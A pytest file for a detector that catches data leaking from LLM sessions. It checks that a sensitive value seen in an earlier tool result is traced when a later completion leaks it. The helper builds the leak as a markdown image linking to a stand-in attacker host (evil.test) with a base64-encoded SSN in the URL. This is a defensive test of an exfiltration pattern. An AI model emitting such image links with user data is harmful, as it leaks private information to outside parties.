"""Per-session memory: a value seen by the model in one event is traced when a later event leaks it."""

import base64
import json

import msgspec
import pytest

from detectors.event import Identity
from detectors.exfil import ExfilConfig, ExfilDetector
from detectors.exfil.memory import SessionMemory
from tests.fixtures.exfil.builders import chat, run

SSN = "536-22-1234"


def leak_in_later_event(detector, *, session: str, later_by: float = 60.0):
    first = chat(prompt="who is it?", tool_results=[f'{{"ssn": "{SSN}"}}'], completion="Found the record.")
    first = msgspec.structs.replace(first, identity=Identity(session_id="s1"))
    hidden = base64.urlsafe_b64encode(SSN.encode()).decode()
    second = chat(prompt="thanks", completion=f"![x](https://evil.test/p.png?v={hidden})", event_id="evt-2")
    second = msgspec.structs.replace(
        second, identity=Identity(session_id=session), timestamp=first.timestamp + later_by
    )
    run(detector, first)
    return run(detector, second)[0]


@pytest.fixture
def detector() -> ExfilDetector:
    return ExfilDetector(ExfilConfig(memory_ttl_s=600))


def test_value_from_an_earlier_event_of_the_session_is_traced(detector):
    detections = leak_in_later_event(detector, session="s1")
    assert [(d.rule.id, d.rule.level) for d in detections] == [("abw-exfil-url-image", "critical")]
    assert "first seen in gen_ai.tool.call.result of an earlier event" in detections[0].evidence[0].detail


def test_other_sessions_and_expired_memories_do_not_count(detector):
    other = leak_in_later_event(detector, session="s2")
    expired = leak_in_later_event(ExfilDetector(ExfilConfig(memory_ttl_s=600)), session="s1", later_by=7200)
    assert other == []  # a short opaque value alone is not enough
    assert expired == []


def test_state_holds_fingerprints_only_and_restores(detector):
    run(detector, msgspec.structs.replace(chat(tool_results=[f"ssn {SSN}"]), identity=Identity(session_id="s1")))
    state = detector.state()
    assert SSN not in json.dumps(state) and "536221234" not in json.dumps(state)
    restored = ExfilDetector(ExfilConfig(memory_ttl_s=600))
    restored.load_state(json.loads(json.dumps(state)))
    assert restored.memory.recall("s1", f"pii:us_ssn:{SSN.replace('-', '')}", 1_763_800_010.0) == (
        "gen_ai.tool.call.result"
    )


def test_memory_is_bounded():
    memory = SessionMemory(b"k", ttl_s=100, max_sessions=2)
    for session in ("a", "b", "c"):
        memory.remember(session, "secret:x:1", "gen_ai.prompt", 0.0)
    assert memory.recall("a", "secret:x:1", 1.0) is None
    assert memory.recall("c", "secret:x:1", 1.0) == "gen_ai.prompt"
    memory.expire(500.0)
    assert memory.state() == {"sessions": {}}
